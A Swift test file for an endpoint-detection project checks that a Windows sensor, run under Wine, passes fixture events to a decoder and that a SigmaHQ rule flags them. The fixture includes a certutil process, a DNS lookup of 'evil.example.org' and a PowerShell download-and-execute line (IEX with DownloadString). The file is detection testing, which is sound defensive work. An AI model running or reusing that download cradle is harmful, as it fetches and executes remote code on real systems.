import EDRCore
import EDRDetect
import EDRSigma
@testable import EDRWindowsEvents
import Foundation
import Testing

/// The two halves of the Windows pipeline meet: records built to the manifests' layouts go
/// through the real C sensor (windows/sensor, PE32+ under Wine, its fixture source calling the
/// same callback ETW calls), and what it frames is decoded by the detector's own Swift code
/// into events a SigmaHQ rule fires on. `make test` sets EDR_WINDOWS_BIN (after `make
/// test-windows` built the programs and the Wine prefix); without it the test is off.
@Suite("Windows sensor → detector", .enabled(if: ProcessInfo.processInfo.environment["EDR_WINDOWS_BIN"] != nil))
struct NativeSensorTests {
    @Test func theSensorsFramesDecodeIntoAlertingEvents() throws {
        let bin = ProcessInfo.processInfo.environment["EDR_WINDOWS_BIN"]!
        let work = FileManager.default.temporaryDirectory.appendingPathComponent("edr-winsensor-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: work, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: work) }

        let records: [Fixture] = [
            deviceMapRecord([("C:", vol), ("D:", "\\Device\\HarddiskVolume5")]),
            start(4100, 4, "\\Windows\\System32\\cmd.exe"),
            start(4101, 4100, "\\Windows\\System32\\certutil.exe", 1),
            Fixtures.dnsCompleted(pid: 4101, name: "evil.example.org", status: 0, results: "203.0.113.7;", at: at(2)),
            Fixtures.scriptBlock(
                pid: 4100, text: "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
                id: "{6b6f6c6f-0000-4000-8000-000000000001}", path: "", at: at(3))
        ]
        var fixture = [UInt8]()
        for r in records {
            let p = r.record.encoded()
            fixture.appendLE(UInt32(p.count))
            fixture.append(contentsOf: p)
        }
        let fixturePath = work.appendingPathComponent("records.fixture").path
        let framesPath = work.appendingPathComponent("frames.bin").path
        try Data(fixture).write(to: URL(fileURLWithPath: fixturePath))

        let status = try runSensor(
            bin,
            [
                "--write-frames", "Z:" + framesPath.replacingOccurrences(of: "/", with: "\\"),
                "--fixture", "Z:" + fixturePath.replacingOccurrences(of: "/", with: "\\")
            ])
        try #require(status == 0, "edr-sensor.exe --write-frames exit status")

        var decoder = FrameDecoder()
        decoder.feed(Array(try Data(contentsOf: URL(fileURLWithPath: framesPath))))
        let hello = try Hello(frame: try #require(try decoder.next()))
        #expect(hello.role == .sensor && hello.nextSequence == 1)
        decoder.expectSequence(from: hello.nextSequence)
        var etw = WindowsEventDecoder()
        var events: [Event] = []
        var payloads: [[UInt8]] = []
        var sawStats = false
        while let frame = try decoder.next() {
            switch frame.type {
            case .etwRecord:
                #expect(frame.sequence == UInt64(payloads.count + 1))
                payloads.append(frame.payload)
                events += try etw.decode(payload: frame.payload)
            case .sensorStats:
                sawStats = SensorStats.parseIfValid(frame.payload)
            default:
                Issue.record("unexpected \(frame.type) frame")
            }
        }
        try decoder.finish()
        #expect(payloads == records.map { $0.record.encoded() }, "the sensor forwards header and user data byte for byte")
        #expect(sawStats, "a final sensorStats frame")

        let creation = try #require(events.first { $0.logsource.category == "process_creation" && $0["ProcessId"] == .int(4101) })
        #expect(creation["Image"]?.stringValue?.hasSuffix("\\Windows\\System32\\certutil.exe") == true)
        #expect(creation["ParentImage"]?.stringValue?.hasSuffix("\\Windows\\System32\\cmd.exe") == true)
        let dns = try #require(events.first { $0.logsource.category == "dns_query" })
        #expect(dns["QueryName"] == "evil.example.org")
        #expect(dns["Image"]?.stringValue?.hasSuffix("certutil.exe") == true, "enriched from the process cache")
        let script = try #require(events.first { $0.logsource.category == "ps_script" })
        #expect(script["ScriptBlockText"]?.stringValue?.contains("DownloadString") == true)

        // And a real SigmaHQ rule fires on what came through the sensor.
        let rules = try #require(windowsRules, "SigmaHQ corpus at ../shared/corpora")
        let titles = Set(events.flatMap { rules.evaluate($0).map(\.rule.title) })
        #expect(titles.contains("Suspicious PowerShell Invocations - Specific"), "\(titles)")
        // With the recorded drive map, certutil runs from C:\Windows\System32 as the rules
        // spell it, so the location-anomaly rule stays quiet.
        #expect(creation["Image"] == "C:\\Windows\\System32\\certutil.exe")
        #expect(!titles.contains("System File Execution Location Anomaly"), "\(titles)")
    }

    /// Without --fixture the sensor names the drives first (QueryDosDeviceW), then starts the
    /// ETW session, which Wine 8.0 does not implement: the map arrives, the session does not.
    @Test func theSensorSendsTheDriveMapBeforeTheSession() throws {
        let bin = ProcessInfo.processInfo.environment["EDR_WINDOWS_BIN"]!
        let work = FileManager.default.temporaryDirectory.appendingPathComponent("edr-winsensor-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: work, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: work) }
        let framesPath = work.appendingPathComponent("frames.bin").path
        let status = try runSensor(bin, ["--write-frames", "Z:" + framesPath.replacingOccurrences(of: "/", with: "\\")])
        #expect(status == 2, "the ETW session cannot start under Wine (OpenTraceW): exit 2 after the map")
        var decoder = FrameDecoder()
        decoder.feed(Array(try Data(contentsOf: URL(fileURLWithPath: framesPath))))
        _ = try Hello(frame: try #require(try decoder.next()))
        let first = try #require(try decoder.next())
        #expect(first.type == .etwRecord && first.sequence == 1)
        var etw = WindowsEventDecoder()
        #expect(try etw.decode(payload: first.payload).isEmpty)
        #expect(etw.deviceMap.values.contains("C:"), "Wine's C: drive is named: \(etw.deviceMap)")
    }

    func runSensor(_ bin: String, _ arguments: [String]) throws -> Int32 {
        let wine = Process()
        wine.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        wine.arguments = ["wine", bin + "/edr-sensor.exe"] + arguments
        var env = ProcessInfo.processInfo.environment
        env["WINEDEBUG"] = "-all"
        wine.environment = env
        wine.standardOutput = FileHandle.nullDevice
        wine.standardError = FileHandle.nullDevice
        try wine.run()
        wine.waitUntilExit()
        return wine.terminationStatus
    }
}

/// The sensor's drive-map record (windows/sensor/devices.c), as a recording carries it.
func deviceMapRecord(_ entries: [(drive: String, device: String)]) -> Fixture {
    var b = UserDataBuilder()
    b.u16("DriveCount", at: 0, UInt16(entries.count))
    for (i, e) in entries.enumerated() {
        b.utf16z("Drive[\(i)]", at: nil, e.drive)
        b.utf16z("Device[\(i)]", at: nil, e.device)
    }
    return Fixture(
        name: "edr-sensor 1 v0",
        record: ETWRecord(
            providerID: WindowsProvider.edrSensor, eventID: 1, version: 0,
            processID: 4, timestamp: at(0), userData: b.bytes), layout: b)
}

@Suite("Drive map")
struct DriveMapTests {
    @Test func theMapRenamesDevicePathsAndBadEntriesAreNamed() throws {
        var d = WindowsEventDecoder()
        #expect(try d.decode(deviceMapRecord([("c:", vol)]).record).isEmpty)
        #expect(d.deviceMap == [vol: "C:"])
        let e = try d.decode(start(500, 4, "\\Windows\\System32\\cmd.exe").record)
        #expect(e.first?["Image"] == "C:\\Windows\\System32\\cmd.exe")
        // A later map replaces the earlier one (drives come and go).
        _ = try d.decode(deviceMapRecord([("E:", vol)]).record)
        #expect(d.deviceMap == [vol: "E:"])
        #expect(throws: ETWDecodeError.self) { try d.decode(deviceMapRecord([("CC", vol)]).record) }
        #expect(throws: ETWDecodeError.self) { try d.decode(deviceMapRecord([("C:", "HarddiskVolume3")]).record) }
        do {
            var r = deviceMapRecord([("C:", vol)]).record
            r.userData[0] = 2  // says two entries, holds one
            _ = try d.decode(r)
            Issue.record("a short map must not decode")
        } catch {
            #expect("\(error)".contains("Drive[1]"), "\(error)")
        }
        #expect(d.deviceMap == [vol: "E:"], "a bad map leaves the last good one")
    }
}

extension SensorStats {
    static func parseIfValid(_ payload: [UInt8]) -> Bool { (try? parse(payload)) != nil }
}
